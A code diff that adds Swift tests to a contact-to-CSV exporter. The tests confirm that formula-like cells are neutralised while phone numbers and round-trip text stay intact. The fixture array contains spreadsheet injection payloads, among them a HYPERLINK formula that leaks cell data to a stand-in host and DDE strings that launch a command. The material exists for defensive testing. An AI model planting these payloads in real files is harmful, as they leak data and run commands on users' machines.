@@ -1,5 +1,6 @@
 import ContactCSV
 import Foundation
+import TestSupport
 import Testing
 import VCard
 
@@ -97,6 +98,48 @@ struct WritingTests {
         let card = try Self.card(["FN:Acme", "ORG:Acme"])
         for format in [ContactCSVFormat.googleContacts, .outlook] {
             #expect(try CSVFixture.cards(in: ContactCSVWriter(format: format).bytes(for: [card])).cards == [["ORG:Acme"]])
+        }
+    }
+
+    /// Payloads a synced card could carry into a file opened in Excel or WPS.
+    static let formulas = [#"=HYPERLINK("http://evil.example/?x="&A1)"#, "=1+1", "-2+3+cmd|' /C calc'!A0",
+                           "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "=张三", "'=1+1"]
+
+    @Test("No cell of an export begins like a formula; phone numbers are left alone; an import reads the text back")
+    func formulasAreQuoted() throws {
+        for format in [ContactCSVFormat.googleContacts, .googleLegacy, .outlook] {
+            for formula in Self.formulas {
+                let value = formula.replacingOccurrences(of: ",", with: "\\,")
+                let lines = ["N:\(value);\(value);;;", "ORG:" + value, "TITLE:" + value, "NOTE:" + value, "ADR;TYPE=HOME:;;\(value);;;;",
+                             "CATEGORIES:" + value, "TEL;TYPE=CELL:+86 138 0013 8000", "TEL;TYPE=HOME:-1 (555) 010.0"]
+                let bytes = ContactCSVWriter(format: format).bytes(for: [try Self.card(lines)])
+                let cells = CSVFixture.cells(of: bytes).dropFirst().flatMap { $0 }
+                let formulaLike = cells.filter { cell in
+                    cell.first.map { "=+-@".contains($0) } == true && !cell.allSatisfy { "0123456789 ()-./+".contains($0) }
+                }
+                #expect(formulaLike.isEmpty, "\(format): \(formulaLike)")
+                #expect(cells.contains("'" + formula), "\(format): \(formula)")
+                #expect(cells.contains("+86 138 0013 8000") && cells.contains("-1 (555) 010.0"), "\(format)")
+                let read = try CSVFixture.cards(in: bytes).cards
+                for line in ["ORG:" + value, "TITLE:" + value, "NOTE:" + value] {
+                    #expect(read.first?.contains(line) == true, "\(format): \(line) not in \(read)")
+                }
+            }
+        }
+    }
+
+    @Test("Any text a note holds reads back as it was written, quotes and formula characters included", arguments: 0..<4)
+    func formulaGuardRoundTrips(seed: UInt64) throws {
+        var generator = SeededGenerator(seed: seed)
+        let alphabet = Array("''=+-@ 0123456789()./aZ张")
+        for _ in 0..<2_000 {
+            let text = String((0..<Int.random(in: 1...6, using: &generator)).map { _ in alphabet.randomElement(using: &generator)! })
+                .trimmingCharacters(in: .whitespaces)
+            guard !text.isEmpty else { continue }
+            let card = VCard(properties: [VCardProperty(name: "VERSION", value: "4.0"), VCardProperty(name: "FN", value: "x"),
+                                          VCardProperty(name: "NOTE", value: text)])
+            let read = try CSVFixture.cards(in: ContactCSVWriter(format: .googleContacts).bytes(for: [card])).cards
+            #expect(read.first?.contains("NOTE:" + text) == true, "\(text): \(read)")
         }
     }
 }
